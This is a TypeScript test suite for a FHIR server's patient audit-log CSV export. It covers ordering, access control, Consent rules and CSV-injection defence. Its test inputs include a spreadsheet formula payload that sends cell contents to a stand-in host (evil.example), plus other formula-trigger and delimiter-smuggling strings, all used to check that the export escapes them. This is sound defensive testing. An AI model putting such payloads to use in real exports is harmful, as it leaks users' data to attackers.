/** Who did what, as a table: https://hl7.org/fhir/R4/auditevent.html, https://www.rfc-editor.org/rfc/rfc4180 */
import { parse } from 'csv-parse/sync'
import type { Grant } from '#access'
import { consentOf, ofTypes } from './consent-of.ts'
import { type Asked, grantOf, type House, openHouse, patientA, patientB, weightOf } from './house.ts'

let house: House
const admin = grantOf('system/*.cruds', { patients: 'all' })
const ofA = grantOf('patient/*.rs', { patient: 'a' })
/** What somebody calls themselves. */
const formulas = ['=HYPERLINK("http://evil.example?"&A1)', '+1', '-1', '@SUM(A1)', ' =1', '\uff1d1', '\u200b=1']
/** Where semicolons, tabs or lines part cells, and quotes do not hold them together. */
const partedFormulas = {
  '\t=1': "'\t'=1",
  'x;=1;+2': "x;'=1;'+2",
  'x; @SUM(A1)': "x;' @SUM(A1)",
  'x;"=1': 'x;\'"=1',
  'x\t\u200b-1': "x\t'\u200b-1",
  'x\r\n=1': "x\r\n'=1",
  'x\u2028\uff1d1': "x\u2028'\uff1d1",
  'x - y; z-1, =1': 'x - y; z-1, =1',
}

async function written(method: string, path: string, body?: object, grant = admin) {
  const answer = await house.ask(method, path, { grant, ...(body === undefined ? {} : { body }) })
  if (answer.status >= 300) throw new Error(answer.text)
  return answer.json
}

type Row = Readonly<Record<string, string>>

async function rowsOf(path: string, asked: Asked): Promise<readonly Row[]> {
  await house.record.flush()
  const { status, text, headers } = await house.ask('GET', path, asked)
  if (status !== 200) throw new Error(text)
  expect(headers['content-type']).toBe('text/csv; charset=utf-8; header=present')
  expect(text.endsWith('\r\n')).toBe(true)
  return parse(text, { columns: true, record_delimiter: '\r\n' })
}

/** What a device says. */
const filedEvent = {
  resourceType: 'AuditEvent',
  type: { code: 'rest' },
  recorded: '2020-01-01T00:00:00Z',
  outcome: '0',
  agent: [{ name: 'Device', requestor: true }],
  source: { observer: { display: 'Kinhold' } },
  entity: [{ what: { reference: 'Patient/a' } }],
}

const audit = (patient: string, query = '') => `/Patient/${patient}/$audit-export${query}`

beforeEach(async () => {
  house = await openHouse()
  await written('PUT', '/Patient/a', patientA)
  await written('PUT', '/Patient/b', patientB)
  await house.record.addPatientTo('anna', 'a')
})
afterEach(() => house.close())

async function grantFor(account: string): Promise<Grant> {
  const actor = { kind: 'account', id: account } as const
  return grantOf('user/*.cruds', { id: account, actor, account, ...(await house.record.keptBy(account)) })
}

it('has a line for each AuditEvent of the patient, in their order, and none of anybody else', async () => {
  await written('POST', '/Observation', weightOf('a', 70))
  await written('POST', '/Observation', weightOf('b', 71))
  await written('GET', '/Observation?patient=a&code=29463-7', undefined, ofA)
  await house.record.flush()
  house.record.audit({ action: 'export', outcome: 'success', patient: 'a', detail: 'share link opened' })
  house.record.audit({ action: 'refused', outcome: 'failure', patient: 'a', detail: 'read: record.unknown' })
  house.record.audit({ action: 'login', outcome: 'failure' })
  for (const grant of [admin, ofA, await grantFor('anna')]) {
    const rows = await rowsOf(audit('a'), { grant })
    expect(
      rows
        .slice(0, 5)
        .map(({ type, subtype, outcome, description, queries }) => [type, subtype, outcome, description, queries]),
    ).toEqual([
      ['rest', 'create', '0', '', ''],
      ['rest', 'create', '0', '', ''],
      ['rest', 'search', '0', '', 'Observation?patient&code'],
      ['export', '', '0', 'share link opened', ''],
      ['refused', '', '8', 'read: record.unknown', ''],
    ])
    expect(rows.filter(({ entities }) => entities?.includes('Patient/b') || !entities?.includes('Patient/a'))).toEqual(
      [],
    )
    expect(new Set(rows.map(({ origin }) => origin))).toEqual(new Set(['server']))
  }
})

it('records that it was told, and of when it is asked for', async () => {
  const grant = await grantFor('anna')
  await rowsOf(audit('a'), { grant })
  house.clock.advance(60_000)
  const since = new Date(house.clock.nowMs()).toISOString()
  await written('POST', '/Observation', weightOf('a', 70))
  const rows = await rowsOf(audit('a'), { grant })
  expect(rows.filter(({ description, who }) => description === 'bulk export' && who === 'anna')).toHaveLength(1)
  const created = (some: readonly Row[]) =>
    some
      .filter(({ subtype }) => subtype === 'create')
      .map(({ entities = '' }) => /(\w+)\/[^/]+\/_history/.exec(entities)?.[1])
  expect(created(await rowsOf(audit('a', `?_since=${since}`), { grant }))).toEqual(['Observation'])
  expect(created(await rowsOf(audit('a', `?_until=${since}`), { grant }))).toEqual(['Patient'])
  expect(created(rows)).toEqual(['Patient', 'Observation'])
})

it('is no place for formulas – https://owasp.org/www-community/attacks/CSV_Injection', async () => {
  for (const display of formulas)
    await written('PUT', '/Patient/a', patientA, {
      ...admin,
      id: display,
      actor: { kind: 'account', id: 'x', display },
    })
  house.record.audit({ action: 'export', outcome: 'success', patient: 'a', detail: 'a "quoted", word\r\nand line' })
  const rows = await rowsOf(audit('a'), { grant: admin })
  const agents = rows.map(({ agent }) => agent).filter(agent => agent !== '')
  expect(agents).toEqual(expect.arrayContaining(formulas.map(each => `'${each}`)))
  expect(agents.filter(agent => !agent?.startsWith("'"))).toEqual([])
  expect(rows.map(({ description }) => description)).toContain('a "quoted", word\r\nand line')
})

it('is none where cells are parted otherwise', async () => {
  const names = Object.keys(partedFormulas)
  for (const detail of names) house.record.audit({ action: 'export', outcome: 'success', patient: 'a', detail })
  const rows = await rowsOf(audit('a'), { grant: admin })
  const told = rows.filter(({ type }) => type === 'export').map(({ description }) => description)
  expect(told).toEqual(expect.arrayContaining(Object.values(partedFormulas)))
})

it('goes through each sign of a long name once', async () => {
  const [tabs, semicolons] = ['\t', ';'].map(sign => `${sign.repeat(300_000)}x`)
  const agent = [tabs, semicolons, '-'.repeat(300_000)].map(name => ({ name, requestor: true }))
  await written('POST', '/AuditEvent', { ...filedEvent, agent })
  const rows = await rowsOf(audit('a'), { grant: admin })
  expect(rows.at(-1)?.agent).toHaveLength(900_004)
})

it('says of what others have filed that they have, behind all else', async () => {
  await written('POST', '/AuditEvent', filedEvent)
  await written('POST', '/Observation', weightOf('a', 70))
  const rows = await rowsOf(audit('a'), { grant: admin })
  expect(rows.map(({ origin }) => origin).lastIndexOf('server')).toBe(rows.length - 2)
  expect(rows.at(-1)).toMatchObject({ origin: 'filed', agent: 'Device', recorded: '2020-01-01T00:00:00Z' })
})

it('is as long as it is, and comes in pieces', async () => {
  for (let at = 0; at < 400; at++)
    house.record.audit({ action: 'export', outcome: 'success', patient: 'a', detail: 'x'.repeat(400) })
  await house.record.flush()
  const rows = await rowsOf(audit('a'), { grant: admin })
  expect(rows.filter(({ type }) => type === 'export')).toHaveLength(400)
})

it.each([
  ['another patient', () => grantOf('patient/*.rs', { patient: 'b' }), 'a', 404],
  ['nobody such', () => ofA, 'never', 404],
  ['without the scope', () => grantOf('patient/Observation.rs', { patient: 'a' }), 'a', 403],
  ['without a search', () => grantOf('patient/AuditEvent.r', { patient: 'a' }), 'a', 403],
])('is told to nobody else: %s', async (_, grant, patient, status) => {
  expect((await house.ask('GET', audit(patient), { grant: grant() })).status).toBe(status)
})

it.each(['_since', '_until'])('refuses %s that is no time, and names it', async name => {
  const { status, json, text } = await house.ask('GET', audit('a', `?${name}=Hidden`), { grant: ofA })
  expect([status, json.issue[0].expression]).toEqual([400, [name]])
  expect(text).not.toContain('Hidden')
})

it('tells nothing to whom a Consent withholds anything – https://hl7.org/fhir/R4/consent.html', async () => {
  await house.record.addPatientTo('bert', 'a', { role: 'guardian' })
  const grant = await grantFor('bert')
  expect((await rowsOf(audit('a'), { grant })).length).toBeGreaterThan(0)
  await written('POST', '/Consent', consentOf('a', ofTypes('Observation')), await grantFor('anna'))
  expect(await rowsOf(audit('a'), { grant })).toEqual([])
  expect((await rowsOf(audit('a'), { grant: await grantFor('anna') })).length).toBeGreaterThan(0)
})

it('ends when the access under which it was asked ends meanwhile', async () => {
  let times = 0
  const renew = async () => {
    times++
    return { ...ofA, patient: 'b' }
  }
  await house.record.flush()
  const { status, json } = await house.ask('GET', audit('a'), { grant: ofA, renew })
  expect([status, json.issue[0].details.coding[0].code, times]).toEqual([403, 'audit.withdrawn', 1])
})
